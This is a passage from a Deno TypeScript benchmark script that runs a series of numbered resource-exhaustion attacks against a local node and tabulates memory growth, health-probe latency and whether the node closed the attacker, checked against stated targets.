          `${((performance.now() - t) / 1000).toFixed(1)} s; each attack ` +
          `gets a fresh bootstrap authority (--period 1s) serving it`,
      );
      const rows: Row[] = [];
      for (const attack of attacks) {
        if (attack.addresses > bindable) {
          rows.push({
            attack,
            outcome: undefined,
            error: `skipped: needs ${attack.addresses} attacker addresses, ` +
              `${bindable} can be bound`,
          });
          continue;
        }
        const started = performance.now();
        const row = await runAttack(attack, dir, prober, probeAddress);
        rows.push(row);
        const r = tableRow(row);
        console.log(
          `  #${attack.id} ${attack.name}: ${r.cells.slice(2).join(" | ")} ` +
            `(${((performance.now() - started) / 1000).toFixed(0)} s with ` +
            `the node's start and stop)`,
        );
      }
      console.log();
      const table = [[
        "#",
        "attack",
        "sent",
        "time",
        "RSS MB before → peak (+growth)",
        "probes ok",
        "p50/p99/max ms",
        "attacker closed (how)",
        "verdict",
      ]];
      for (const row of rows) {
        const r = tableRow(row);
        table.push(r.cells);
        for (const n of r.notes) notes.push(`#${row.attack.id}: ${n}`);
      }
      printTable(table);
      console.log();
      for (const n of notes) console.log(n);
      console.log(
        `\ntargets: RSS growth < ${TARGET_GROWTH_MB} MB · every probe ` +
          `answered · p99 < ${TARGET_P99_MS} ms · attacker closed by the ` +
          `node · #3 also /healthz right after the flood < ` +
          `${TARGET_HEALTHZ_AFTER_MS} ms · #12/#12b also calls ended ` +
          `grpc-status 8 · #13 also every victim call answered and no ` +
          `GOAWAY to the victim · #14/#15 also GOAWAY ENHANCE_YOUR_CALM · ` +
          `#16 has no "attacker closed" target: the whole response ` +
          `arriving instead. Probes: GET /healthz from ` +
          `${probeAddress ?? "127.0.0.1"} every ${PROBE_EVERY_MS} ms on a ` +
          `fresh HTTP/1.1 connection, from the attack's start to ` +
          `${PROBE_TAIL_MS} ms after its end, ${PROBE_TIMEOUT_MS} ms timeout; ` +
          `answered = the health route's 200 or 503 (a lone node has no ` +
          `peers); latencies include failures at the time they took. ` +
          `"sent" is what was queued to the socket (fr = frames). ` +
          `The machine is shared: the attacker, the prober and the node ` +
          `run on its ${navigator.hardwareConcurrency} cores.`,
      );
    }, "bcn_bench_attack_");
  } finally {
    Deno.removeSignalListener("SIGINT", onInterrupt);
    destroyAll();
    prober.terminate();
  }
}

if ((globalThis as { name?: string }).name === PROBER) proberMain();
else await main();
